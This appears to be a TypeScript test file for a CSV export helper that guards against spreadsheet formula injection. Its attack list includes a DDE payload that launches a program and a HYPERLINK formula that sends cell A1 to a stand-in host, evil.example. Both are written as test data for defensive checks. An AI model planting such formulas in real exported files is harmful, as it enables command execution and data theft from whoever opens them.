import assert from "node:assert/strict";
import { test } from "node:test";
import { parse } from "csv-parse/sync";
import { csvLine, inertText } from "./spreadsheet-cell.ts";

/**
 * Splits a line as spreadsheets do: at the locale's separator, ignoring quotes inside a cell that does not start with a quote.
 */
const SPLITS = [/[,\r\n]/, /[;\r\n]/, /[\t\r\n]/, /[|\r\n]/];
const FORMULA = /^[\s"]*[=+\-@\uff1d\uff0b\uff0d\uff20]/;

const ATTACKS = [
  "=1+1",
  "+1",
  "-1+cmd|' /C calc'!A0",
  "@SUM(A1)",
  "\t=1",
  "\r=1",
  "\n=1",
  "  =1",
  "\u{a0}=1",
  '"=1+1"',
  'x","=1+1',
  "x;=1+1",
  "x\t=1+1",
  "x\r\n=1+1",
  "\uff1d1+1",
  '=HYPERLINK("https://evil.example/?"&A1,"ok")',
];

test("no text becomes a formula in a CSV file, whatever separator the spreadsheet uses", () => {
  for (const attack of ATTACKS) {
    const line = csvLine(["before", attack, "after"]);
    for (const split of SPLITS) {
      for (const cell of line.split(split)) assert.doesNotMatch(cell, FORMULA, JSON.stringify([attack, line]));
    }
    const [cells] = parse(line);
    assert.equal(cells?.length, 3, attack);
    assert.equal(cells?.[1]?.replaceAll("'", ""), attack.replaceAll("'", ""), "only apostrophes are added");
  }
});

test("leaves other text, numbers, null and booleans unchanged", () => {
  for (const text of ["", "web-1", "a@example.com", "1-2", "x=y", "two words"]) assert.equal(inertText(text), text);
  assert.equal(csvLine(["a", -1, null, true, "b,c"]), 'a,-1,,true,"b,c"\r\n');
});
